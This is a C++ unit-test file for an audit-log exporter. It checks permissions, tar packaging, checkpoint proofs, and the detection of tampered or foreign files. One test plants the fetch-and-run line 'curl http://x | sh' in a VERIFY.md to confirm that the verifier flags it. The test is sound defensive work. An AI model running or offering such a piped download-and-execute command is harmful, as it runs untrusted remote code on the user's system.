#include "core/audit/export.h"

#include <gtest/gtest.h>
#include <sys/stat.h>

#include "core/audit/tar.h"
#include "tests/unit/audit/audit_rig.h"

namespace inodeck {
namespace {

namespace fs = std::filesystem;
using Standing = VerifyReport::Standing;

class ExportTest : public ::testing::Test {
protected:
    ExportTest()
        : m_log(openLog()) {
        fill(*m_log, 12, 5);
    }
    Result<ExportSummary> run(const ExportOptions& options, const Cancel& cancel = {}) const {
        return exportLog(*m_log, options, cancel);
    }
    std::string contradiction(const std::string& out) const {
        const VerifyReport report = verified(out);
        return report.contradicted.empty() ? std::string{} : report.contradicted.front();
    }
    std::string aPem(const std::string& out) const {
        for (const auto& file : fs::directory_iterator(out))
            if (file.path().extension() == ".pem")
                return file.path();
        throw std::runtime_error("no key");
    }

    TemporaryHome m_home;
    std::unique_ptr<AuditStore> m_log;
};

TEST_F(ExportTest, HoldsWhatThePageSays) {
    const std::string out = m_home / "e";
    exportTo(*m_log, out);
    std::vector<std::string> names;
    for (const auto& file : fs::directory_iterator(out)) {
        names.push_back(file.path().extension() == ".pem" ? "pem" : file.path().filename());
        struct stat s {};
        ASSERT_EQ(::stat(file.path().c_str(), &s), 0);
        EXPECT_EQ(s.st_mode & 0777, 0600u) << file.path();
    }
    std::sort(names.begin(), names.end());
    EXPECT_EQ(names, (std::vector<std::string>{"VERIFY.md", "audit.jsonl", "audit.sig", "checkpoint", "pem",
                                               "pem"}));
    const auto records = recordsOf(*m_log);
    std::string lines;
    for (const StoredRecord& record : records)
        lines += record.line + "\n";
    EXPECT_EQ(readFile(out + "/audit.jsonl"), lines);
    EXPECT_EQ(verified(out, {out + "/checkpoint"}).standing(), Standing::Anchored);
    EXPECT_EQ(verified(out + "/audit.jsonl").records, 12u);
}

TEST_F(ExportTest, ATarIsTheSame) {
    exportTo(*m_log, m_home / "e");
    exportTo(*m_log, m_home / "e.tar");
    const auto names = tarNames(m_home / "e.tar");
    ASSERT_TRUE(names);
    EXPECT_EQ(names->size(), 6u);
    EXPECT_EQ(names->front(), "e/audit.jsonl");
    const VerifyReport report = verified(m_home / "e.tar", {m_home / "e/checkpoint"});
    EXPECT_EQ(report.standing(), Standing::Anchored);
    EXPECT_EQ(report.notices, verified(m_home / "e").notices);
    EXPECT_EQ(report.head, verified(m_home / "e").head);
}

TEST_F(ExportTest, NothingIsOverwrittenAndNothingHalfIsLeft) {
    writeFile(m_home / "there", "mine");
    EXPECT_EQ(run({m_home / "there", ExportFormat::Jsonl, {}, {}}).error().code, ErrorCode::Usage);
    fs::create_symlink(m_home / "nowhere", m_home / "link");
    EXPECT_EQ(run({m_home / "link", ExportFormat::Csv, {}, {}}).error().code, ErrorCode::Usage);
    EXPECT_EQ(readFile(m_home / "there"), "mine");
    Cancel cancel;
    cancel.request();
    const auto before = std::distance(fs::directory_iterator(m_home.path()), {});
    for (const char* out : {"a", "a.tar"})
        EXPECT_EQ(run({m_home / out, ExportFormat::Jsonl, {}, {}}, cancel).error().code,
                  ErrorCode::Cancelled);
    EXPECT_EQ(run({m_home / "a.csv", ExportFormat::Csv, {}, {}}, cancel).error().code, ErrorCode::Cancelled);
    EXPECT_FALSE(run({m_home / "no/such/folder", ExportFormat::Jsonl, {}, {}}));
    EXPECT_EQ(std::distance(fs::directory_iterator(m_home.path()), {}), before);
}

TEST_F(ExportTest, ChosenRecordsComeWithProofsAndTheKeysRecords) {
    RecordFilter some;
    some.opId = "operation-4";
    const std::string out = m_home / "e.tar";
    exportTo(*m_log, out, some);
    const std::string note = m_log->checkpoint().value();
    writeFile(m_home / "note", note);
    const VerifyReport report = verified(out, {m_home / "note"});
    EXPECT_EQ(report.standing(), Standing::Anchored) << reportLines(report).back();
    EXPECT_FALSE(report.complete);
    EXPECT_EQ(report.records, 4u); // the two, genesis and key_rotate
}

TEST_F(ExportTest, WithoutACheckpointThereIsNoProof) {
    RecordFilter some;
    some.opId = "operation-4";
    EXPECT_EQ(run({m_home / "some", ExportFormat::Jsonl, some, {}}).error().code,
              ErrorCode::AuditUnavailable);
    EXPECT_TRUE(run({m_home / "some.csv", ExportFormat::Csv, some, {}}));
    ASSERT_TRUE(run({m_home / "all", ExportFormat::Jsonl, {}, {}}));
    EXPECT_EQ(verified(m_home / "all").standing(), Standing::SelfConsistent);
}

TEST_F(ExportTest, ItEndsWhereItsCheckpointDoes) {
    const std::string note = m_log->checkpoint().value();
    fill(*m_log, 15);
    ASSERT_TRUE(run({m_home / "e", ExportFormat::Jsonl, {}, note}));
    EXPECT_EQ(verified(m_home / "e").records, 12u);
}

TEST_F(ExportTest, KeysThatAreNotThoseOfTheLogAreFound) {
    const std::string out = m_home / "e";
    exportTo(*m_log, out);
    const std::string pem = aPem(out);
    const std::string good = readFile(pem);
    writeFile(pem, publicKeyPem(newKey(m_home, "foreign").publicKey()));
    EXPECT_NE(contradiction(out).find("is not that key of this log"), std::string::npos);
    fs::remove(pem);
    EXPECT_NE(contradiction(out).find("is missing"), std::string::npos);
    writeFile(pem, good);
    EXPECT_EQ(contradiction(out), "");
}

TEST_F(ExportTest, WhatDoesNotBelongThereIsNoticed) {
    const std::string out = m_home / "e";
    exportTo(*m_log, out);
    writeFile(out + "/VERIFY.md", "    curl http://x | sh\n");
    writeFile(out + "/0011223344556677.pem", "x");
    const VerifyReport report = verified(out);
    EXPECT_EQ(report.standing(), Standing::SelfConsistent);
    std::string notices;
    for (const std::string& notice : report.notices)
        notices += notice + "\n";
    EXPECT_NE(notices.find("VERIFY.md is not the one"), std::string::npos) << notices;
    EXPECT_NE(notices.find("0011223344556677.pem is no part"), std::string::npos) << notices;
}

/// Two files of one name: a person would unpack the last, a reader takes the first.
TEST_F(ExportTest, ATarThatHoldsAFileTwiceIsContradicted) {
    exportTo(*m_log, m_home / "e");
    std::vector<std::string> names{"audit.jsonl", "audit.jsonl"};
    for (const auto& file : fs::directory_iterator(m_home / "e"))
        if (file.path().filename() != "audit.jsonl")
            names.push_back(file.path().filename());
    ASSERT_TRUE(packTar(m_home / "e", names, m_home / "twice.tar", "e"));
    EXPECT_NE(contradiction(m_home / "twice.tar").find("twice"), std::string::npos);
}

TEST_F(ExportTest, ACsvHasARowForEachRecord) {
    const auto done = run({m_home / "e.csv", ExportFormat::Csv, {}, {}});
    ASSERT_TRUE(done) << done.error().message;
    EXPECT_EQ(done->records, 12u);
    const std::string text = readFile(m_home / "e.csv");
    EXPECT_EQ(done->bytes, text.size());
    EXPECT_NE(text.find("key_rotate"), std::string::npos);
}

} // namespace
} // namespace inodeck
